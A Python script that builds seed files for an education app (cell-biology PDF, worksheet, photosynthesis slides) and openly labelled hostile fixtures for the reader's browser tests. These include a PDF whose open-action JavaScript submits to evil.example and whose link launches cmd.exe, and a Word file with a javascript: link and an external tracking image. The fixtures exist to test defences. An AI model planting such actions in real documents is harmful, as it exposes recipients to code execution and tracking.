#!/usr/bin/env python3
"""Writes the small real files the local stack seeds and the browser tests upload.

Run once (python3 infra/local/seed-files/make-seed-files.py); the outputs are committed. Standard library only:
a two-page PDF written by hand with a correct cross-reference table, and minimal but complete OOXML packages
(a Word document and a presentation with the master, layout and theme PowerPoint requires, bullet lists, a
picture and a table). It also writes the hostile files the reader's browser tests open (test/e2e/fixtures/):
a PDF with JavaScript and launch actions, a Word document with a javascript: link and an external image, and a
presentation with five hundred slides. Zip entries carry a fixed timestamp so the files are reproducible byte for byte.
The large multi-page PDF is not committed: infra/local/large-pdf.ts writes it at seed time.
"""
import os
import struct
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
HOSTILE_DIR = os.path.join(HERE, "..", "..", "..", "test", "e2e", "fixtures")
FIXED_TIME = (2024, 1, 1, 0, 0, 0)


def pdf_escape(text):
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def page_stream(heading, lines):
    parts = ["BT", "/F2 22 Tf", "72 740 Td", f"({pdf_escape(heading)}) Tj", "/F1 12 Tf", "0 -36 Td", "16 TL"]
    for line in lines:
        parts.append(f"({pdf_escape(line)}) '")
    parts.append("ET")
    return "\n".join(parts).encode("latin-1")


def write_pdf(path, objects, title):
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref_offset = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n" % size
    out += b"0000000000 65535 f \n"
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number]
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info << /Title (%s) >> >>\n" % (size, pdf_escape(title).encode("latin-1"))
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    with open(path, "wb") as handle:
        handle.write(out)


def make_pdf(path):
    pages = [
        (
            "Cells: the building blocks of life",
            [
                "Every living thing is made of one or more cells.",
                "",
                "Animal cells have a nucleus, cytoplasm, a cell membrane and mitochondria.",
                "Plant cells also have a cell wall, a permanent vacuole and chloroplasts.",
                "",
                "The nucleus holds the genetic material that controls the cell.",
                "Mitochondria release energy from glucose in aerobic respiration.",
                "Chloroplasts absorb light so the plant can make its own food.",
            ],
        ),
        (
            "Check your understanding",
            [
                "1. Name three parts that plant and animal cells share.",
                "2. Which part of a plant cell carries out photosynthesis?",
                "3. Why does a plant cell need a cell wall?",
                "4. Where in the cell does aerobic respiration happen?",
            ],
        ),
    ]
    page_count = len(pages)
    # Object numbers: 1 catalog, 2 pages, 3 regular font, 4 bold font, then a page and its content per page.
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>",
    }
    kids = []
    for index, (heading, lines) in enumerate(pages):
        page_number = 5 + index * 2
        content_number = page_number + 1
        kids.append(f"{page_number} 0 R")
        objects[page_number] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            f"/Resources << /Font << /F1 3 0 R /F2 4 0 R >> >> /Contents {content_number} 0 R >>"
        ).encode("latin-1")
        stream = page_stream(heading, lines)
        objects[content_number] = b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"
    objects[2] = f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count {page_count} >>".encode("latin-1")

    write_pdf(path, objects, "Cells: the building blocks of life")


def make_hostile_pdf(path):
    """Opens with a JavaScript action and has a link that would launch a program; neither may ever run."""
    stream = page_stream("A PDF with actions", ["Opening this file must not run its script or launch anything."])
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(boom) 6 0 R] >> >> >>",
        2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R /F2 3 0 R >> >>"
        b" /Contents 5 0 R /Annots [7 0 R] /AA << /O 6 0 R >> >>",
        5: b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        6: b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pdf script ran'\\); this.submitForm\\('https://evil.example/pdf'\\);) >>",
        7: b"<< /Type /Annot /Subtype /Link /Rect [72 600 540 720] /Border [0 0 0]"
        b" /A << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
    }
    write_pdf(path, objects, "A PDF with actions")


def write_zip(path, entries):
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content if isinstance(content, bytes) else content.strip().encode("utf-8"))


def png(width, height, pixel):
    """A PNG of width x height RGB pixels, pixel(x, y) -> (r, g, b)."""
    rows = b"".join(b"\x00" + b"".join(bytes(pixel(x, y)) for x in range(width)) for y in range(height))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


def leaf_picture(x, y):
    """A green leaf (an ellipse with a darker midrib) on a pale sky."""
    dx, dy = (x - 160) / 130, (y - 100) / 70
    if abs(y - 100 + (x - 160) * 0.0) < 3 and abs(dx) < 1:
        return (40, 110, 40)
    if dx * dx + dy * dy <= 1:
        return (70 + (x * 3) % 40, 160, 60)
    return (225, 240, 250)


def sun_picture(x, y):
    """A yellow sun on blue."""
    d = ((x - 80) ** 2 + (y - 80) ** 2) ** 0.5
    return (250, 200, 40) if d < 50 else (90, 150, 220)


XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"


def core_props(title):
    return XML + f"""
<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<dc:title>{title}</dc:title><dc:creator>Learning paths demo</dc:creator>
<dcterms:created xsi:type="dcterms:W3CDTF">2024-01-01T00:00:00Z</dcterms:created>
<dcterms:modified xsi:type="dcterms:W3CDTF">2024-01-01T00:00:00Z</dcterms:modified>
</cp:coreProperties>"""


def make_docx(path, extra_body="", extra_rels="", title="Worksheet: label a cell"):
    def paragraph(text, bold=False, size=None):
        run_props = ""
        if bold or size:
            run_props = "<w:rPr>" + ("<w:b/>" if bold else "") + (f'<w:sz w:val="{size}"/>' if size else "") + "</w:rPr>"
        return f'<w:p><w:r>{run_props}<w:t xml:space="preserve">{text}</w:t></w:r></w:p>'

    body = "".join(
        [
            paragraph("Worksheet: label a cell", bold=True, size=36),
            paragraph("Use the reading on cells to answer these questions."),
            paragraph("1. Label the nucleus, cytoplasm and cell membrane on your diagram."),
            paragraph("2. Add the three parts that only plant cells have."),
            paragraph("3. In one sentence, explain what mitochondria do."),
            paragraph("4. Compare a plant cell and an animal cell: list two differences."),
        ]
    ) + extra_body
    document = XML + f"""
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 xmlns:r="{REL}"><w:body>{body}<w:sectPr><w:pgSz w:w="11906" w:h="16838"/>
<w:pgMar w:top="1440" w:right="1440" w:bottom="1440" w:left="1440" w:header="708" w:footer="708" w:gutter="0"/>
</w:sectPr></w:body></w:document>"""
    content_types = XML + """
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>
</Types>"""
    rels = XML + f"""
<Relationships xmlns="{PKG_REL}">
<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/>
<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>
</Relationships>"""
    entries = [
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", rels),
        ("docProps/core.xml", core_props(title)),
        ("word/document.xml", document),
    ]
    if extra_rels:
        entries.append(("word/_rels/document.xml.rels", XML + f'<Relationships xmlns="{PKG_REL}">{extra_rels}</Relationships>'))
    write_zip(path, entries)


def make_hostile_docx(path):
    """A javascript: hyperlink and a picture linked from another host: the link must be inert, the picture never fetched."""
    link = (
        '<w:p><w:hyperlink r:id="rIdEvil"><w:r><w:t>Click for a prize</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:hyperlink r:id="rIdSafe"><w:r><w:t>A safe link</w:t></w:r></w:hyperlink></w:p>'
    )
    picture = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="952500" cy="952500"/><wp:docPr id="1" name="Tracker"/>'
        f'<a:graphic xmlns:a="{A}"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="Tracker"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rIdImage"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
        '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    )
    rels = (
        f'<Relationship Id="rIdEvil" Type="{REL}/hyperlink" Target="javascript:alert(\'docx script ran\')" TargetMode="External"/>'
        f'<Relationship Id="rIdSafe" Type="{REL}/hyperlink" Target="https://example.org/safe" TargetMode="External"/>'
        f'<Relationship Id="rIdImage" Type="{REL}/image" Target="https://evil.example/tracker.png" TargetMode="External"/>'
    )
    make_docx(path, extra_body=link + picture, extra_rels=rels, title="A document with a hostile link")


P = "http://schemas.openxmlformats.org/presentationml/2006/main"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
NS = f'xmlns:a="{A}" xmlns:r="{REL}" xmlns:p="{P}"'
EMPTY_TREE = (
    '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>'
    '<p:grpSpPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/><a:chOff x="0" y="0"/><a:chExt cx="0" cy="0"/></a:xfrm></p:grpSpPr>'
)


def text_box(shape_id, name, x, y, cx, cy, paragraphs, size):
    body = "".join(
        f'<a:p><a:r><a:rPr lang="en-GB" sz="{size}" dirty="0"/><a:t>{text}</a:t></a:r></a:p>' for text in paragraphs
    )
    return (
        f'<p:sp><p:nvSpPr><p:cNvPr id="{shape_id}" name="{name}"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>'
        f'<p:spPr><a:xfrm><a:off x="{x}" y="{y}"/><a:ext cx="{cx}" cy="{cy}"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom><a:noFill/></p:spPr>'
        f'<p:txBody><a:bodyPr wrap="square" rtlCol="0"><a:normAutofit/></a:bodyPr><a:lstStyle/>{body}</p:txBody></p:sp>'
    )


def bullet_box(shape_id, x, y, cx, cy, bullets, size):
    body = "".join(
        f'<a:p><a:pPr marL="342900" indent="-342900"><a:buFont typeface="Arial"/><a:buChar char="\u2022"/></a:pPr>'
        f'<a:r><a:rPr lang="en-GB" sz="{size}" dirty="0"/><a:t>{text}</a:t></a:r></a:p>'
        for text in bullets
    )
    return (
        f'<p:sp><p:nvSpPr><p:cNvPr id="{shape_id}" name="Bullets"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>'
        f'<p:spPr><a:xfrm><a:off x="{x}" y="{y}"/><a:ext cx="{cx}" cy="{cy}"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom><a:noFill/></p:spPr>'
        f'<p:txBody><a:bodyPr wrap="square" rtlCol="0"><a:normAutofit/></a:bodyPr><a:lstStyle/>{body}</p:txBody></p:sp>'
    )


def picture(shape_id, rel_id, name, x, y, cx, cy):
    return (
        f'<p:pic><p:nvPicPr><p:cNvPr id="{shape_id}" name="{name}" descr="{name}"/><p:cNvPicPr><a:picLocks noChangeAspect="1"/></p:cNvPicPr><p:nvPr/></p:nvPicPr>'
        f'<p:blipFill><a:blip r:embed="{rel_id}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
        f'<p:spPr><a:xfrm><a:off x="{x}" y="{y}"/><a:ext cx="{cx}" cy="{cy}"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
    )


def table(shape_id, x, y, rows):
    column_width = 3505200
    def cell(text, heading):
        return (
            f'<a:tc><a:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-GB" sz="2000" b="{1 if heading else 0}" dirty="0"/>'
            f'<a:t>{text}</a:t></a:r></a:p></a:txBody>'
            f'<a:tcPr><a:solidFill><a:srgbClr val="{"2E6DA4" if heading else "E7EEF6"}"/></a:solidFill></a:tcPr></a:tc>'
        )

    grid = "".join(f'<a:gridCol w="{column_width}"/>' for _ in rows[0])
    body = "".join(
        '<a:tr h="508000">' + "".join(cell(text, index == 0) for text in row) + "</a:tr>" for index, row in enumerate(rows)
    )
    return (
        f'<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="{shape_id}" name="Table"/><p:cNvGraphicFramePr><a:graphicFrameLocks noGrp="1"/></p:cNvGraphicFramePr><p:nvPr/></p:nvGraphicFramePr>'
        f'<p:xfrm><a:off x="{x}" y="{y}"/><a:ext cx="{column_width * len(rows[0])}" cy="{508000 * len(rows)}"/></p:xfrm>'
        f'<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/table"><a:tbl><a:tblPr firstRow="1" bandRow="1"/>'
        f'<a:tblGrid>{grid}</a:tblGrid>{body}</a:tbl></a:graphicData></a:graphic></p:graphicFrame>'
    )


def slide(title, bullets, extra=""):
    shapes = text_box(2, "Title", 838200, 365125, 10515600, 1325563, [title], 4000) + bullet_box(
        3, 838200, 1825625, 10515600 if not extra else 5800000, 4351338, bullets, 2400
    ) + extra
    return XML + f"""
<p:sld {NS}><p:cSld><p:spTree>{EMPTY_TREE}{shapes}</p:spTree></p:cSld>
<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>"""


def theme():
    def font(tag):
        return f'<a:{tag}><a:latin typeface="Calibri"/><a:ea typeface=""/><a:cs typeface=""/></a:{tag}>'

    solid = '<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>'
    line = '<a:ln w="{w}" cap="flat" cmpd="sng" algn="ctr"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:prstDash val="solid"/><a:miter lim="800000"/></a:ln>'
    colors = [
        ("dk1", '<a:sysClr val="windowText" lastClr="000000"/>'),
        ("lt1", '<a:sysClr val="window" lastClr="FFFFFF"/>'),
        ("dk2", '<a:srgbClr val="1F3A5F"/>'),
        ("lt2", '<a:srgbClr val="E7E6E6"/>'),
        ("accent1", '<a:srgbClr val="2E6DA4"/>'),
        ("accent2", '<a:srgbClr val="E07A1F"/>'),
        ("accent3", '<a:srgbClr val="7F7F7F"/>'),
        ("accent4", '<a:srgbClr val="C9A400"/>'),
        ("accent5", '<a:srgbClr val="3C8DBC"/>'),
        ("accent6", '<a:srgbClr val="3F8F3F"/>'),
        ("hlink", '<a:srgbClr val="0563C1"/>'),
        ("folHlink", '<a:srgbClr val="954F72"/>'),
    ]
    color_scheme = "".join(f"<a:{name}>{value}</a:{name}>" for name, value in colors)
    return XML + f"""
<a:theme xmlns:a="{A}" name="Plain"><a:themeElements>
<a:clrScheme name="Plain">{color_scheme}</a:clrScheme>
<a:fontScheme name="Plain">{font("majorFont")}{font("minorFont")}</a:fontScheme>
<a:fmtScheme name="Plain">
<a:fillStyleLst>{solid}{solid}{solid}</a:fillStyleLst>
<a:lnStyleLst>{line.format(w=6350)}{line.format(w=12700)}{line.format(w=19050)}</a:lnStyleLst>
<a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst>
<a:bgFillStyleLst>{solid}{solid}{solid}</a:bgFillStyleLst>
</a:fmtScheme></a:themeElements><a:objectDefaults/><a:extraClrSchemeLst/></a:theme>"""


PHOTOSYNTHESIS_SLIDES = [
    ("Photosynthesis", ["Plants make glucose from carbon dioxide and water.", "Light is absorbed by chlorophyll in chloroplasts.", "Oxygen is released as a by-product."], "leaf"),
    ("The word equation", ["carbon dioxide + water \u2192 glucose + oxygen", "Light energy is needed for the reaction."], "sun"),
    ("What a leaf needs", ["Compare what goes in and what comes out."], "table"),
]
TABLE_ROWS = [["Goes in", "Comes out"], ["Carbon dioxide", "Glucose"], ["Water", "Oxygen"], ["Light energy", "Stored chemical energy"]]


def make_pptx(path, slides=PHOTOSYNTHESIS_SLIDES, title="Photosynthesis"):
    content_types = XML + """
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="png" ContentType="image/png"/>
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/>
<Override PartName="/ppt/slideMasters/slideMaster1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml"/>
<Override PartName="/ppt/slideLayouts/slideLayout1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml"/>
<Override PartName="/ppt/theme/theme1.xml" ContentType="application/vnd.openxmlformats-officedocument.theme+xml"/>
<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>
""" + "".join(
        f'<Override PartName="/ppt/slides/slide{n}.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>\n'
        for n in range(1, len(slides) + 1)
    ) + "</Types>"
    root_rels = XML + f"""
<Relationships xmlns="{PKG_REL}">
<Relationship Id="rId1" Type="{REL}/officeDocument" Target="ppt/presentation.xml"/>
<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>
</Relationships>"""
    slide_ids = "".join(f'<p:sldId id="{255 + n}" r:id="rId{n + 2}"/>' for n in range(1, len(slides) + 1))
    presentation = XML + f"""
<p:presentation {NS} saveSubsetFonts="1">
<p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst>
<p:sldIdLst>{slide_ids}</p:sldIdLst>
<p:sldSz cx="12192000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/>
</p:presentation>"""
    presentation_rels = XML + f"""
<Relationships xmlns="{PKG_REL}">
<Relationship Id="rId1" Type="{REL}/slideMaster" Target="slideMasters/slideMaster1.xml"/>
<Relationship Id="rId2" Type="{REL}/theme" Target="theme/theme1.xml"/>
""" + "".join(
        f'<Relationship Id="rId{n + 2}" Type="{REL}/slide" Target="slides/slide{n}.xml"/>\n' for n in range(1, len(slides) + 1)
    ) + "</Relationships>"
    master = XML + f"""
<p:sldMaster {NS}><p:cSld><p:bg><p:bgRef idx="1001"><a:schemeClr val="bg1"/></p:bgRef></p:bg><p:spTree>{EMPTY_TREE}</p:spTree></p:cSld>
<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>
<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst>
<p:txStyles><p:titleStyle><a:lvl1pPr><a:defRPr sz="4000"><a:solidFill><a:schemeClr val="tx1"/></a:solidFill><a:latin typeface="+mj-lt"/></a:defRPr></a:lvl1pPr></p:titleStyle>
<p:bodyStyle><a:lvl1pPr><a:defRPr sz="2400"><a:solidFill><a:schemeClr val="tx1"/></a:solidFill><a:latin typeface="+mn-lt"/></a:defRPr></a:lvl1pPr></p:bodyStyle>
<p:otherStyle><a:lvl1pPr><a:defRPr sz="1800"><a:solidFill><a:schemeClr val="tx1"/></a:solidFill><a:latin typeface="+mn-lt"/></a:defRPr></a:lvl1pPr></p:otherStyle></p:txStyles>
</p:sldMaster>"""
    master_rels = XML + f"""
<Relationships xmlns="{PKG_REL}">
<Relationship Id="rId1" Type="{REL}/slideLayout" Target="../slideLayouts/slideLayout1.xml"/>
<Relationship Id="rId2" Type="{REL}/theme" Target="../theme/theme1.xml"/>
</Relationships>"""
    layout = XML + f"""
<p:sldLayout {NS} type="blank" preserve="1"><p:cSld name="Blank"><p:spTree>{EMPTY_TREE}</p:spTree></p:cSld>
<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>"""
    layout_rels = XML + f"""
<Relationships xmlns="{PKG_REL}">
<Relationship Id="rId1" Type="{REL}/slideMaster" Target="../slideMasters/slideMaster1.xml"/>
</Relationships>"""
    def slide_rels(image):
        picture_rel = f'<Relationship Id="rId2" Type="{REL}/image" Target="../media/{image}.png"/>' if image else ""
        return XML + f"""
<Relationships xmlns="{PKG_REL}">
<Relationship Id="rId1" Type="{REL}/slideLayout" Target="../slideLayouts/slideLayout1.xml"/>{picture_rel}
</Relationships>"""
    entries = [
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", root_rels),
        ("docProps/core.xml", core_props(title)),
        ("ppt/presentation.xml", presentation),
        ("ppt/_rels/presentation.xml.rels", presentation_rels),
        ("ppt/slideMasters/slideMaster1.xml", master),
        ("ppt/slideMasters/_rels/slideMaster1.xml.rels", master_rels),
        ("ppt/slideLayouts/slideLayout1.xml", layout),
        ("ppt/slideLayouts/_rels/slideLayout1.xml.rels", layout_rels),
        ("ppt/theme/theme1.xml", theme()),
    ]
    pictures = {"leaf": (320, 200, leaf_picture, "A green leaf"), "sun": (160, 160, sun_picture, "The sun")}
    used = sorted({extra for _, _, extra in slides if extra in pictures})
    for name in used:
        width, height, pixel, _ = pictures[name]
        entries.append((f"ppt/media/{name}.png", png(width, height, pixel)))
    for n, (slide_title, bullets, extra) in enumerate(slides, start=1):
        shapes = ""
        if extra in pictures:
            width, height, _, description = pictures[extra]
            shapes = picture(4, "rId2", description, 7000000, 1825625, 4200000, 4200000 * height // width)
        elif extra == "table":
            shapes = table(4, 838200, 2700000, TABLE_ROWS)
        entries.append((f"ppt/slides/slide{n}.xml", slide(slide_title, bullets, shapes)))
        entries.append((f"ppt/slides/_rels/slide{n}.xml.rels", slide_rels(extra if extra in pictures else None)))
    write_zip(path, entries)


def make_many_slides_pptx(path, count=500):
    """A deck with five hundred slides: the reader must stay responsive (it renders slides on demand)."""
    slides = [(f"Slide {n} of {count}", [f"Filler slide number {n}."], None) for n in range(1, count + 1)]
    make_pptx(path, slides, title="A very long deck")


if __name__ == "__main__":
    make_pdf(os.path.join(HERE, "cells-reading.pdf"))
    make_docx(os.path.join(HERE, "cells-worksheet.docx"))
    make_pptx(os.path.join(HERE, "photosynthesis-slides.pptx"))
    os.makedirs(HOSTILE_DIR, exist_ok=True)
    make_hostile_pdf(os.path.join(HOSTILE_DIR, "hostile-actions.pdf"))
    make_hostile_docx(os.path.join(HOSTILE_DIR, "hostile-links.docx"))
    make_many_slides_pptx(os.path.join(HOSTILE_DIR, "many-slides.pptx"))
    for folder in (HERE, HOSTILE_DIR):
        for name in sorted(os.listdir(folder)):
            if not name.endswith((".py", ".ts")):
                print(os.path.relpath(os.path.join(folder, name)), os.path.getsize(os.path.join(folder, name)), "bytes")
